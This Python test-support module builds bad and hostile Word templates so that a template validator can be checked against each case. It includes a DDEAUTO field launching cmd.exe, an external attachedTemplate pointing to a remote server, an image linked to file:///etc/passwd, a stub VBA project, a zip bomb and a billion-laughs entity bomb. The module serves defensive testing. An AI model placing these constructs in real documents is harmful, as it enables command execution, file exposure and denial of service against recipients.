"""Bad and hostile Word templates, made on the spot from the shipped one (for tests).

Each builder writes one file and returns its path; ``source`` is a good template
(``resources/word/report-template.docx``). The zip plumbing is the workbook
builders' (``hostile_workbooks``).
"""

from __future__ import annotations

import io
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

from tests.support.hostile_workbooks import BILLION_LAUGHS, GIB, _deflate, raw_zip, rewrite

ROOT = Path(__file__).resolve().parents[2]
DEFAULT = ROOT / "resources" / "word" / "report-template.docx"
DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
MAIN = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _text_change(old: bytes, new: bytes, part: str = DOCUMENT) -> Callable[[str, bytes], bytes]:
    def change(name: str, data: bytes) -> bytes:
        if name == part:
            assert old in data, (old, part)
            return data.replace(old, new)
        return data

    return change


def macro_enabled_name(source: Path, target: Path) -> Path:
    """The template as it is, named ``.docm``."""
    target.write_bytes(source.read_bytes())
    return target


def vba_project(source: Path, target: Path) -> Path:
    """A .docx name, with a vbaProject part and the macro-enabled main content type."""
    rewrite(source, target, lambda name, data: data.replace(MAIN, MAIN.replace(b"document.main", b"document.macroEnabled.main")) if name == "[Content_Types].xml" else data)  # fmt: skip
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return target


def vba_part_only(source: Path, target: Path) -> Path:
    """Content types untouched, but a vbaProject part inside."""
    target.write_bytes(source.read_bytes())
    with zipfile.ZipFile(target, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512)
    return target


def altered_content_type(source: Path, target: Path) -> Path:
    """The main part declared as plain XML."""
    return rewrite(
        source,
        target,
        lambda name, data: data.replace(MAIN, b"application/xml") if name == "[Content_Types].xml" else data,
    )


def renamed_workbook(target: Path) -> Path:
    """An Excel workbook named ``.docx``."""
    from openpyxl import Workbook

    book = Workbook()
    book.active["A1"] = "not a template"  # type: ignore[index]
    book.save(target)
    return target


def zip_bomb(target: Path, size: int = GIB) -> Path:
    """A few MB on disk; ``word/document.xml`` unpacks to ``size`` (1 GiB)."""
    paragraph = b"<w:p><w:r><w:t>lorem ipsum</w:t></w:r></w:p>"
    block = paragraph * (1024 * 1024 // len(paragraph))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    flushed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    count = size // len(block)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    types = (
        b'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Override PartName="/word/document.xml" ContentType="' + MAIN + b'"/></Types>'
    )
    members = [
        ("[Content_Types].xml", _deflate(types), zlib.crc32(types), len(types)),
        (DOCUMENT, flushed * count + b"\x03\x00", crc, len(block) * count),
    ]
    return raw_zip(target, members)


def entity_bomb(source: Path, target: Path) -> Path:
    """``word/document.xml`` replaced by a billion-laughs document."""
    return rewrite(source, target, lambda name, data: BILLION_LAUGHS if name == DOCUMENT else data)


def without_body(source: Path, target: Path) -> Path:
    """No ``{{report_body}}`` paragraph."""
    return rewrite(source, target, _text_change(b"{{report_body}}", b"The report goes here"))


def misspelt(source: Path, target: Path) -> Path:
    """``{{clinet}}`` on the cover."""
    return rewrite(source, target, _text_change(b"{{client}}", b"{{clinet}}"))


def unclosed(source: Path, target: Path) -> Path:
    """``{{ client`` (never closed) on the cover."""
    return rewrite(source, target, _text_change(b"{{client}}", b"{{ client"))


def external_relationship(source: Path, target: Path) -> Path:
    """An attached template on a server (the remote-template trick)."""
    rel = (
        b'<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.9/x.dotm" TargetMode="External"/></Relationships>'
    )
    return rewrite(source, target, _text_change(b"</Relationships>", rel, RELS))


def linked_image(source: Path, target: Path) -> Path:
    """An image relationship pointing outside the file."""
    rel = (
        b'<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" '
        b'Target="file:///etc/passwd" TargetMode="External"/></Relationships>'
    )
    return rewrite(source, target, _text_change(b"</Relationships>", rel, RELS))


def dde_field(source: Path, target: Path) -> Path:
    """A DDE field in the body (the template's own, not user text)."""
    field = (
        b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\'
        b'windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/>'
        b"</w:r></w:p><w:sectPr"
    )
    return rewrite(source, target, _text_change(b"<w:sectPr", field))


def truncated(source: Path, target: Path) -> Path:
    data = source.read_bytes()
    target.write_bytes(data[: len(data) // 2])
    return target


def split_placeholders(source: Path, target: Path) -> Path:
    """``{{client}}`` split over three runs as Word does after an edit (``{{cli`` ``en`` ``t}}``)."""
    split = b"{{cli</w:t></w:r><w:r><w:rPr><w:i/></w:rPr><w:t>en</w:t></w:r><w:r><w:t>t}}"
    return rewrite(source, target, _text_change(b"{{client}}", split))


BAD: dict[str, tuple[Callable[[Path, Path], Path], str, str]] = {
    # name: (builder(source, target), file name, words the one-line refusal holds)
    "docm": (macro_enabled_name, "firm.docm", "macro-enabled"),
    "vba-project": (vba_project, "firm.docx", "firm.docx"),
    "vba-part": (vba_part_only, "firm.docx", "macros"),
    "altered-content-type": (altered_content_type, "firm.docx", "content type"),
    "renamed-xlsx": (lambda source, target: renamed_workbook(target), "firm.docx", "Excel workbook"),
    "zip-bomb": (lambda source, target: zip_bomb(target), "firm.docx", "zip bomb"),
    "entity-bomb": (entity_bomb, "firm.docx", "entities"),
    "no-report-body": (without_body, "firm.docx", "{{report_body}}"),
    "misspelt-placeholder": (misspelt, "firm.docx", "{{clinet}}"),
    "unclosed-placeholder": (unclosed, "firm.docx", "{{ client"),
    "external-relationship": (external_relationship, "firm.docx", "attachedTemplate"),
    "linked-image": (linked_image, "firm.docx", "outside it"),
    "dde-field": (dde_field, "firm.docx", "DDEAUTO"),
    "truncated": (truncated, "firm.docx", "firm.docx"),
}


def png(colour: str, size: tuple[int, int] = (300, 100)) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, format="PNG")
    return out.getvalue()
